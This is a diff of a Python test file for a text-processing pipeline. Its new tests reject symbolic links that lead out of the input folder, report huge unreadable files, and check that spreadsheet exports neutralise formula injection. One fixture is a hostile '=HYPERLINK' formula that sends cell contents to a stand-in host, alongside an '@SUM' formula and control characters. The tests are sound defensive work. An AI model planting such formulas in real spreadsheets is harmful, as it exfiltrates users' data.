@@ -12,10 +12,10 @@ import subprocess
 import sys
 from pathlib import Path
 
-import pandas as pd
 from reportlab.pdfgen.canvas import Canvas
 
 from conftest import RAW, REPO
+from pipeline.tables import read_table
 
 STATEMENT = RAW / "000_6fb061e0297f36b6.txt"
 
@@ -25,19 +25,24 @@ def run_cli(*args) -> subprocess.CompletedProcess:
                           cwd=REPO, capture_output=True, text=True)
 
 
+def contents(out: Path) -> dict[Path, bytes]:
+    """Every file of an output folder but the lock a run takes (it names the last holder)."""
+    return {p: p.read_bytes() for p in out.rglob("*") if p.is_file() and p.name != "lock"}
+
+
 def test_a_memory_limit_below_the_models_says_what_they_need(tmp_path):
     folder, out = tmp_path / "in", tmp_path / "out"
     folder.mkdir()
     (folder / "statement.txt").write_bytes(STATEMENT.read_bytes())
     assert run_cli(folder, "-o", out).returncode == 0
-    before = {p.name: p.read_bytes() for p in out.glob("*.csv")}
+    before = contents(out)
     (folder / "second.txt").write_bytes(STATEMENT.read_bytes()[:2000])
     result = run_cli(folder, "-o", out, "--max-memory", "200")
     assert result.returncode == 2, result.stderr
     assert "--max-memory 200 MB is too low for the models" in result.stderr
     assert "needs at least" in result.stderr and "Traceback" not in result.stderr
     assert "ImportError" not in result.stderr + result.stdout
-    assert {p.name: p.read_bytes() for p in out.glob("*.csv")} == before
+    assert contents(out) == before
 
 
 def numbered_pages(path: Path, n_pages: int) -> None:
@@ -56,7 +61,85 @@ def test_pages_of_nothing_but_page_numbers_are_an_error_saying_so(tmp_path):
     (folder / "statement.txt").write_bytes(STATEMENT.read_bytes())
     result = run_cli(folder, "-o", out)
     assert result.returncode == 1, result.stderr
-    documents = pd.read_csv(out / "documents.csv").set_index("doc_id")
+    documents = read_table(out, "documents").set_index("doc_id")
     assert documents.loc["statement", "status"] == "ok"
     assert documents.loc["numbers", "status"] == "error"
     assert "no text on any of 150 page(s) besides page numbers" in documents.loc["numbers", "error"]
+
+
+def statement_folder(folder: Path) -> Path:
+    folder.mkdir(parents=True)
+    (folder / "statement.txt").write_bytes(STATEMENT.read_bytes())
+    return folder
+
+
+def test_symbolic_links_out_of_the_folder_are_error_rows(tmp_path):
+    folder = statement_folder(tmp_path / "in")
+    secret = tmp_path / "secret.txt"
+    secret.write_text("Пароль администратора: 12345.", encoding="utf-8")
+    elsewhere = statement_folder(tmp_path / "elsewhere")
+    (folder / "leaks.txt").symlink_to(secret)
+    (folder / "broken.txt").symlink_to(tmp_path / "nowhere.txt")
+    (folder / "linked").symlink_to(elsewhere)
+    (folder / "inside.txt").symlink_to(folder / "statement.txt")  # stays in the tree: read
+    out = tmp_path / "out"
+    result = run_cli(folder, "-o", out)
+    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
+    documents = read_table(out, "documents").set_index("doc_id")
+    assert documents.status.to_dict() == {"statement": "ok", "inside": "ok", "leaks": "error",
+                                          "broken": "error", "linked": "error"}
+    assert "a symbolic link to " + str(secret) in documents.loc["leaks", "error"]
+    assert "--follow-links" in documents.loc["leaks", "error"]
+    assert "broken symbolic link" in documents.loc["broken", "error"]
+    assert "outside the input folder" in documents.loc["linked", "error"]
+    assert not any("Пароль" in p.read_text(encoding="utf-8") for p in (out / "texts").iterdir())
+    allowed = tmp_path / "allowed"
+    assert run_cli(folder, "-o", allowed, "--follow-links").returncode == 1  # the broken link stays an error
+    documents = read_table(allowed, "documents").set_index("doc_id")
+    assert documents.loc["leaks", "status"] == "ok" and documents.loc["broken", "status"] == "error"
+    read_there = documents[documents.source.str.contains("linked")]  # the linked folder's statement
+    assert len(documents) == 5 and read_there.status.tolist() == ["ok"]
+
+
+def test_a_huge_file_of_a_kind_we_do_not_read_is_reported_unread(tmp_path):
+    folder = statement_folder(tmp_path / "in")
+    with open(folder / "recording.mp4", "wb") as f:
+        f.truncate(2**40)  # a sparse terabyte: hashing it would take many minutes
+    out = tmp_path / "out"
+    result = subprocess.run([sys.executable, "-m", "pipeline.cli", "run", str(folder), "-o", str(out), "-q",
+                             "--timeout", "10"], cwd=REPO, capture_output=True, text=True, timeout=240)
+    assert result.returncode == 1, result.stderr
+    row = read_table(out, "documents").set_index("doc_id").loc["recording"]
+    assert row.status == "error" and "cannot read .mp4" in row.error and row.sha256 is None
+
+
+def test_formulas_and_control_characters_reach_spreadsheets_as_text(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    hostile = ('=HYPERLINK("http://example.invalid/?"&A1,"Подробнее") 24 марта 2012 года в Алматы '
+               "задержана Бахыт\x1b Туменова.\x01\n@SUM(1+1) Её оштрафовали на 80900 тенге.\n")
+    (folder / "=cmd.txt").write_text(hostile, encoding="utf-8")
+    out = tmp_path / "out"
+    assert run_cli(folder, "-o", out, "--csv").returncode == 0
+    documents_csv = (out / "documents.csv").read_text(encoding="utf-8")
+    assert "\n'=cmd," in documents_csv  # the OWASP apostrophe on the doc_id
+    sentences_csv = (out / "sentences.csv").read_text(encoding="utf-8")
+    assert '"\'=HYPERLINK(' in sentences_csv and "'@SUM(1+1)" in sentences_csv
+    from pipeline.tables import read_tables
+    csv_only = tmp_path / "csv_only"
+    csv_only.mkdir()
+    for name in ("documents", "sentences", "mentions", "events", "event_arguments"):
+        (csv_only / f"{name}.csv").write_bytes((out / f"{name}.csv").read_bytes())
+    back = read_tables(csv_only)
+    assert back["documents"].doc_id.tolist() == ["=cmd"]
+    assert back["sentences"].text.iloc[0].startswith('=HYPERLINK(')
+    workbook = tmp_path / "tables.xlsx"
+    result = subprocess.run([sys.executable, "-m", "pipeline.cli", "export", str(out), "--format", "xlsx",
+                             "-o", str(workbook)], cwd=REPO, capture_output=True, text=True)
+    assert result.returncode == 0, result.stderr
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(workbook)["sentences"]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)  # text, never a live formula
+    assert any("␛" in str(c.value) for row in sheet.iter_rows() for c in row)
